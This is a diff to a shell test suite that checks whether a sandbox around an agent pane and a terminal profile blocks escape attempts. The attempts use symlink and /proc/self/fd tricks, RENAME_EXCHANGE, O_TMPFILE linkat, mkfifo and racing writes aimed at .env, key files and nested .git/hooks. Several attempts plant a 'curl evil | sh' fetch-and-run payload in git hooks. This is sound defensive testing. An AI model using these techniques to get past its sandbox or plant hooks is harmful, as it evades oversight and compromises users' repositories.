@@ -65,7 +65,7 @@ fi
 #  - a repository at the root of the work tree (hooks bound read-only);
 #  - a .env made by the host before the pane started;
 #  - a read-only host directory outside the writable roots.
-mkdir -p "$WORK/sub/.git/hooks" "$WORK/.git/hooks"
+mkdir -p "$WORK/sub/.git/hooks" "$WORK/sub/.git/logs" "$WORK/.git/hooks"
 HOOK="$WORK/sub/.git/hooks/pre-commit"
 echo "original hook" >"$HOOK"
 echo "original top hook" >"$WORK/.git/hooks/pre-commit"
@@ -93,16 +93,20 @@ EOF
 		OUT="(no result within 30 s)"
 	fi
 }
+# The log as one stream, oldest first: the racers' thousands of
+# violations may rotate it (events.jsonl.1, .2, ...).
+log_all() { for f in "$LOG".5 "$LOG".4 "$LOG".3 "$LOG".2 "$LOG".1 "$LOG"; do cat "$f" 2>/dev/null; done; }
+sentinel_in() { log_all | grep -qF "sentinel-$1\""; }
 # violations NAME: the violation lines of the attempt NAME (after the
 # previous sentinel, before NAME's own); empty until NAME's sentinel is in.
-sentinel_in() { grep -qF "sentinel-$1\"" "$LOG" 2>/dev/null; }
 violations() {
 	wait_for 5 sentinel_in "$1" || { echo "(no sentinel for $1)"; return; }
-	awk -v me="sentinel-$1\"" '
+	# (kept in an array: a racer's window holds thousands of lines)
+	log_all | awk -v me="sentinel-$1\"" '
 		index($0, me) { exit }
-		index($0, "/.ssh/sentinel-") { buf = ""; next }
-		/"kind":"violation"/ { buf = buf $0 "\n" }
-		END { printf "%s", buf }' "$LOG"
+		index($0, "/.ssh/sentinel-") { n = 0; next }
+		/"kind":"violation"/ { v[++n] = $0 }
+		END { for (i = 1; i <= n; i++) print v[i] }'
 }
 # one_violation NAME ACTION TARGET: exactly one, with that action and
 # exactly that target.
@@ -187,7 +191,17 @@ check_symlink_attempts() {
 		file-write* "$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/$T-linkfollow/alias' ]"
 }
 
-# --- the rest (agent only, and terminal where it has the rules) ------------------
+# --- the rest (agent, and terminal where it has the rules) -----------------------
+# pick CASE [NAME]: the real target of the attempt $T-CASE: with name
+# patterns ($NAMES = 1), NAME in a directory of the attempt's own;
+# without, a file named after the attempt in a nested .git/hooks.
+pick() {
+	if [ "$NAMES" = 1 ]; then
+		D="$WORK/$T-$1/a" N=$2 ACT=file-write-create
+	else
+		D="$WORK/sub/.git/hooks" N="post-$T-$1" ACT=file-write*
+	fi
+}
 other_attempts() {
 	P=$1 T=$2
 	# threat: a symlinked directory leading out of the writable roots
@@ -203,69 +217,84 @@ EOF
 	final "$T-symdir-hooks" "symlinked dir to a nested .git/hooks, echo >h/post-checkout" \
 		file-write* "$WORK/sub/.git/hooks/post-checkout" \
 		absent "$WORK/sub/.git/hooks/post-checkout"
+	# The forms below aim at a denied name in the agent profile (its
+	# own directory, a name like e.env) and at a nested .git/hooks in
+	# the terminal profile, which has write-denies but no name patterns.
 	# threat: ".." after a symlink: the kernel climbs from the link's target
-	attempt "$P" "$T-dotdot" <<'EOF'
-mkdir -p a/b && ln -s a/b s && echo y >s/../d.env
+	if [ "$NAMES" = 1 ]; then
+		pick dotdot d.env
+		attempt "$P" "$T-dotdot" <<EOF
+mkdir -p $D/b && ln -s $D/b s && echo y >s/../$N
 EOF
-	final "$T-dotdot" "s -> a/b, echo y >s/../d.env" file-write-create "$WORK/$T-dotdot/a/d.env" \
-		both sh -c "[ ! -e '$WORK/$T-dotdot/a/d.env' ] && [ ! -e '$WORK/$T-dotdot/d.env' ]"
+	else
+		pick dotdot
+		attempt "$P" "$T-dotdot" <<EOF
+ln -s $WORK/sub/.git/logs s && echo y >s/../hooks/$N
+EOF
+	fi
+	final "$T-dotdot" "s -> a dir, echo y >s/../...$N" "$ACT" "$D/$N" \
+		both sh -c "[ ! -e '$D/$N' ] && [ ! -e '$WORK/$T-dotdot/$N' ]"
 	# threat: /proc/self/fd/N of a directory as a prefix
-	attempt "$P" "$T-procfd" <<'EOF'
-exec 3<. && echo y >/proc/self/fd/3/e.env
+	pick procfd e.env
+	attempt "$P" "$T-procfd" <<EOF
+mkdir -p $D && exec 3<$D && echo y >/proc/self/fd/3/$N
 EOF
-	final "$T-procfd" "echo y >/proc/self/fd/3/e.env (fd 3 the work dir)" file-write-create \
-		"$WORK/$T-procfd/e.env" absent "$WORK/$T-procfd/e.env"
+	final "$T-procfd" "echo y >/proc/self/fd/3/$N" "$ACT" "$D/$N" absent "$D/$N"
 	attempt "$P" "$T-procfd-hooks" <<EOF
 exec 3<$WORK/sub/.git/hooks && echo 'curl evil | sh' >/proc/self/fd/3/pre-rebase
 EOF
 	final "$T-procfd-hooks" "echo >/proc/self/fd/3/pre-rebase (fd 3 a nested .git/hooks)" \
 		file-write* "$WORK/sub/.git/hooks/pre-rebase" absent "$WORK/sub/.git/hooks/pre-rebase"
 	# threat: /dev/fd/N, the same through /dev's link
-	attempt "$P" "$T-devfd" <<'EOF'
-exec 4<. && echo y >/dev/fd/4/f.env
+	pick devfd f.env
+	attempt "$P" "$T-devfd" <<EOF
+mkdir -p $D && exec 4<$D && echo y >/dev/fd/4/$N
 EOF
-	final "$T-devfd" "echo y >/dev/fd/4/f.env" file-write-create "$WORK/$T-devfd/f.env" \
-		absent "$WORK/$T-devfd/f.env"
+	final "$T-devfd" "echo y >/dev/fd/4/$N" "$ACT" "$D/$N" absent "$D/$N"
 	# threat: /proc/PID/cwd of the shell (its pid inside the sandbox)
-	attempt "$P" "$T-proccwd" <<'EOF'
-echo y >/proc/$$/cwd/g.env
+	pick proccwd g.env
+	attempt "$P" "$T-proccwd" <<EOF
+mkdir -p $D && cd $D && echo y >/proc/\$\$/cwd/$N
 EOF
-	final "$T-proccwd" "echo y >/proc/\$\$/cwd/g.env" file-write-create "$WORK/$T-proccwd/g.env" \
-		absent "$WORK/$T-proccwd/g.env"
+	final "$T-proccwd" "echo y >/proc/\$\$/cwd/$N" "$ACT" "$D/$N" absent "$D/$N"
 	# threat: /proc/self/root as a prefix
+	pick procroot h.env
 	attempt "$P" "$T-procroot" <<EOF
-echo y >/proc/self/root$WORK/$T-procroot/h.env
+mkdir -p $D && echo y >/proc/self/root$D/$N
 EOF
-	final "$T-procroot" "echo y >/proc/self/root/.../h.env" file-write-create \
-		"$WORK/$T-procroot/h.env" absent "$WORK/$T-procroot/h.env"
+	final "$T-procroot" "echo y >/proc/self/root/.../$N" "$ACT" "$D/$N" absent "$D/$N"
 	# threat: an ordinary symlink leading to a magic link
-	attempt "$P" "$T-symproc" <<'EOF'
-exec 3<. && ln -s /proc/self/fd/3 m && echo y >m/i.env
+	pick symproc i.env
+	attempt "$P" "$T-symproc" <<EOF
+mkdir -p $D && exec 3<$D && ln -s /proc/self/fd/3 m && echo y >m/$N
 EOF
-	final "$T-symproc" "m -> /proc/self/fd/3, echo y >m/i.env" file-write-create \
-		"$WORK/$T-symproc/i.env" absent "$WORK/$T-symproc/i.env"
+	final "$T-symproc" "m -> /proc/self/fd/3, echo y >m/$N" "$ACT" "$D/$N" absent "$D/$N"
 	# threat: RENAME_EXCHANGE puts new contents under an existing denied name
-	attempt "$P" "$T-exchange" <<EOF
+	if [ "$NAMES" = 1 ]; then
+		attempt "$P" "$T-exchange" <<EOF
 echo fake >new && $BIN/finalobj exchange $WORK/real.env new
 EOF
-	final "$T-exchange" "renameat2(real.env, new, RENAME_EXCHANGE)" file-write-create \
-		"$WORK/real.env" same "$WORK/real.env" "SECRET=orig"
+		final "$T-exchange" "renameat2(real.env, new, RENAME_EXCHANGE)" file-write-create \
+			"$WORK/real.env" same "$WORK/real.env" "SECRET=orig"
+	fi
 	attempt "$P" "$T-exchange-hook" <<EOF
 echo 'curl evil | sh' >new && $BIN/finalobj exchange new $HOOK
 EOF
 	final "$T-exchange-hook" "renameat2(new, nested pre-commit, RENAME_EXCHANGE)" file-write* \
 		"$HOOK" same "$HOOK" "original hook"
 	# threat: O_TMPFILE, then a name given by linkat through /proc/self/fd
+	pick tmplink j.pem
 	attempt "$P" "$T-tmplink" <<EOF
-mkdir -p a && ln -s a d && $BIN/finalobj tmplink . d/j.pem
+mkdir -p $D && ln -s $D d && $BIN/finalobj tmplink . d/$N
 EOF
-	final "$T-tmplink" "O_TMPFILE + linkat(/proc/self/fd/N, d/j.pem) (d -> a)" file-write-create \
-		"$WORK/$T-tmplink/a/j.pem" absent "$WORK/$T-tmplink/a/j.pem"
+	final "$T-tmplink" "O_TMPFILE + linkat(/proc/self/fd/N, d/$N) (d -> the dir)" "$ACT" \
+		"$D/$N" absent "$D/$N"
+	pick tmpempty k.key
 	attempt "$P" "$T-tmpempty" <<EOF
-$BIN/finalobj tmpempty . k.key
+mkdir -p $D && $BIN/finalobj tmpempty . $D/$N
 EOF
-	final "$T-tmpempty" "O_TMPFILE + linkat(fd, \"\", k.key, AT_EMPTY_PATH)" file-write-create \
-		"$WORK/$T-tmpempty/k.key" absent "$WORK/$T-tmpempty/k.key"
+	final "$T-tmpempty" "O_TMPFILE + linkat(fd, \"\", $N, AT_EMPTY_PATH)" "$ACT" "$D/$N" \
+		absent "$D/$N"
 	attempt "$P" "$T-tmphook" <<EOF
 $BIN/finalobj tmplink . $WORK/sub/.git/hooks/post-merge
 EOF
@@ -295,11 +324,11 @@ echo 'curl evil | sh' >t && mv -f t $WORK/sub/.git/hooks/pre-applypatch
 EOF
 	final "$T-rename-hook" "mv t nested .git/hooks/pre-applypatch" file-write* \
 		"$WORK/sub/.git/hooks/pre-applypatch" absent "$WORK/sub/.git/hooks/pre-applypatch"
-	attempt "$P" "$T-rename-name" <<'EOF'
-mkdir -p a && ln -s a d && echo y >t && mv t d/l.env
+	pick rename-name l.env
+	attempt "$P" "$T-rename-name" <<EOF
+mkdir -p $D && ln -s $D d && echo y >t && mv t d/$N
 EOF
-	final "$T-rename-name" "mv t d/l.env (d -> a)" file-write-create "$WORK/$T-rename-name/a/l.env" \
-		absent "$WORK/$T-rename-name/a/l.env"
+	final "$T-rename-name" "mv t d/$N (d -> the dir)" "$ACT" "$D/$N" absent "$D/$N"
 	# threat: making a write-denied directory, directly and through a link
 	attempt "$P" "$T-mkdir" <<'EOF'
 mkdir -p r/.git && mkdir r/.git/hooks
@@ -312,16 +341,16 @@ EOF
 	final "$T-mkdir-link" "mkdir g/hooks (g -> r/.git)" file-write* \
 		"$WORK/$T-mkdir-link/r/.git/hooks" absent "$WORK/$T-mkdir-link/r/.git/hooks"
 	# threat: mknod and symlink onto a denied name through a symlinked directory
-	attempt "$P" "$T-mknod" <<'EOF'
-mkdir -p a && ln -s a d && mkfifo d/m.env
+	pick mknod m.env
+	attempt "$P" "$T-mknod" <<EOF
+mkdir -p $D && ln -s $D d && mkfifo d/$N
 EOF
-	final "$T-mknod" "mkfifo d/m.env (d -> a)" file-write-create "$WORK/$T-mknod/a/m.env" \
-		absent "$WORK/$T-mknod/a/m.env"
-	attempt "$P" "$T-symlink" <<'EOF'
-mkdir -p a && ln -s a d && ln -s anything d/n.pem
+	final "$T-mknod" "mkfifo d/$N (d -> the dir)" "$ACT" "$D/$N" absent "$D/$N"
+	pick symlink n.pem
+	attempt "$P" "$T-symlink" <<EOF
+mkdir -p $D && ln -s $D d && ln -s anything d/$N
 EOF
-	final "$T-symlink" "ln -s anything d/n.pem (d -> a)" file-write-create \
-		"$WORK/$T-symlink/a/n.pem" absent "$WORK/$T-symlink/a/n.pem"
+	final "$T-symlink" "ln -s anything d/$N (d -> the dir)" "$ACT" "$D/$N" absent "$D/$N"
 	# threat: openat with a dirfd inside a write-denied directory
 	attempt "$P" "$T-dirfd" <<EOF
 $BIN/finalobj dirfd $WORK/sub/.git/hooks post-rewrite
@@ -350,18 +379,23 @@ fi
 ok "setup: agent pane $G, supervised"
 symlink_attempts "$G" agent
 check_symlink_attempts agent
+NAMES=1
 other_attempts "$G" agent
 
 # threat: a racing thread swaps the path of a checked write to an
 # existing file for a protected one (CONTINUE would let the kernel
 # re-read it after the check)
-attempt "$G" race <<EOF
+race_attempt() {
+	echo "ok file" >"$WORK/ok.txt"
+	attempt "$1" "$2-race" <<EOF
 $BIN/finalobj race 20000 $WORK/ok.txt $HOOK
 EOF
-check "agent: 20,000 racing writes flipping ok.txt / a nested hook leave the hook unchanged" \
-	same "$HOOK" "original hook"
+	check "$2: 20,000 racing writes flipping ok.txt / a nested hook leave the hook unchanged" \
+		same "$HOOK" "original hook"
+	check "$2: ... and the racer ran (ok.txt was written through the emulated opens)" race_ran
+}
 race_ran() { grep -q evil "$WORK/ok.txt" && out_has "race: 20000 opens done"; }
-check "agent: ... and the racer ran (ok.txt was written through the emulated opens)" race_ran
+race_attempt "$G" agent
 
 # --- terminal, where the host-run lists make these refusals ------------------------
 PROFILE=terminal
@@ -380,6 +414,9 @@ else
 		same "$HOOK" "original hook"
 	final term-linkfollow "linkat(AT_SYMLINK_FOLLOW) through a symlink to a nested hook" \
 		file-write* "$HOOK" both sh -c "[ '$(cat "$HOOK")' = 'original hook' ] && [ ! -e '$WORK/term-linkfollow/alias' ]"
+	NAMES=0
+	other_attempts "$TP" term
+	race_attempt "$TP" terminal
 fi
 
 # --- the mutation check ----------------------------------------------------------
